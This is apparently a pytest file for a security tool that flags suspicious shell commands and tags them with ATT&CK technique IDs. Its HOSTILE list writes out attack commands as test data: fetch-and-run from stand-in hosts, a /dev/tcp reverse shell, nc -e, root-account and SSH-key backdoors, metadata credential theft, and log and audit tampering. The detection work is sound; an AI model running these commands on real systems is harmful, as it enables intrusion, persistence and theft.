# SPDX-License-Identifier: AGPL-3.0-or-later
"""The judge of command lines."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clean_room_analysis.checks.commands import in_words, rank, suspicions, techniques, worst
from clean_room_analysis.checks.persistence import persistent_suspicions
from clean_room_analysis.model import Severity

HOSTILE = [
    ("curl -fsSL http://198.51.100.23/i.sh | bash", "T1105"),
    ("wget -qO- https://evil.example/x|sudo sh", "T1105"),
    ("bash <(curl -s https://evil.example)", "T1105"),
    ("wget http://evil.example/m -O /tmp/m && chmod +x /tmp/m", "T1105"),
    ("echo aGk= | base64 -d | sh", "T1140"),
    ("bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "T1059.004"),
    ("nc -e /bin/sh 198.51.100.23 4444", "T1059.004"),
    ("python3 -c 'import socket,os;s=socket.socket()'", "T1059.006"),
    ("./m -o stratum+tcp://pool.example:3333", "T1496"),
    ("echo /lib/x.so > /etc/ld.so.preload", "T1574.006"),
    ("chmod u+s /usr/local/bin/x", "T1548.001"),
    ("chmod 4755 /tmp/sh", "T1548.001"),
    ("useradd -o -u 0 sysadm", "T1136.001"),
    ("useradd -ou 0 -g 0 sysadm", "T1136.001"),
    ("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "T1098.004"),
    ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "T1552.005"),
    ("cat /etc/shadow", "T1003.008"),
    ("unset HISTFILE", "T1070.003"),
    ("history -c", "T1070.003"),
    ("rm -rf /var/log/secure", "T1070.002"),
    ("touch -r /bin/ls /tmp/x", "T1070.006"),
    ("systemctl stop auditd", "T1562.001"),
    ("iptables -F", "T1562.004"),
    ("chattr +i /etc/cron.d/x", "T1222.002"),
    ("export PATH=/tmp/bin:$PATH", "T1574.007"),
    ("insmod /tmp/r.ko", "T1547.006"),
]
ORDINARY = [
    "sudo systemctl status httpd",
    "df -h",
    "curl -s http://localhost/health",
    "tar xf release.tar.gz",
    "dnf install -y python3.12",
    "curl -o /opt/app.jar https://repo.example.com/app.jar",
    "/usr/bin/mysqldump orders | gzip > /srv/backup/orders.sql.gz",
    "tail -f /var/log/httpd/error_log",
    "chmod 755 /usr/local/bin/release.sh",
    "python3 -m venv .venv",
    "ssh web-1",
    "01 * * * * root run-parts /etc/cron.hourly",
    "run-parts /etc/cron.daily",
    "git push origin main",
    "passwd ec2-user",
    "cat /etc/hosts",
    "rm -f /var/lock/subsys/local",
    "rsync -a src/ dst/",
    "[ -f ~/.bashrc ] && . ~/.bashrc",
    "export HISTSIZE=5000",
    "echo done > /var/tmp/state",
    "kill -HUP $(cat /run/nginx.pid)",
    "touch /var/lock/subsys/local",
]


@pytest.mark.parametrize(("command", "technique"), HOSTILE)
def test_hostile_commands_stand_out(command: str, technique: str) -> None:
    found = suspicions(command)
    assert technique in techniques(found)
    assert in_words(found)


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_commands_do_not(command: str) -> None:
    assert suspicions(command) == ()


@given(st.text(alphabet=st.sampled_from("curlwget |sh;-/.&<>$()0123 base64\n/tmp/dev"), max_size=400))
def test_any_text_is_judged_worst_first(command: str) -> None:
    found = suspicions(command)
    assert list(found) == sorted(found, key=lambda one: (rank(one.severity), one.attack))
    if found:
        assert worst(found) is found[0].severity


@pytest.mark.parametrize(
    "unit", ["curl ", "useradd -o ", "chmod ", "/tmp/", "wget a|", "rm /", "> ", "$_", "/.a", "python -c socket", "base64 -d | ", "-e "]
)
def test_no_line_takes_long(unit: str) -> None:
    """Patterns are bounded: the longest line that is read is judged at once."""
    line = (unit * 4096)[:4096]
    began = time.process_time()
    persistent_suspicions(line, "T1053.003")
    assert time.process_time() - began < 1.0


def test_unattended_commands_are_judged_by_their_place_too() -> None:
    assert persistent_suspicions("/usr/sbin/httpd -DFOREGROUND", "T1543.002") == ()
    assert persistent_suspicions("/var/tmp/kworkerd", "T1543.002")[0].severity is Severity.HIGH
    assert persistent_suspicions("/usr/lib/.cache2/x --daemon", "T1543.002")[0].reason == "names a hidden path"
    assert persistent_suspicions("/home/app/.venv/bin/python -m app", "T1543.002") == ()
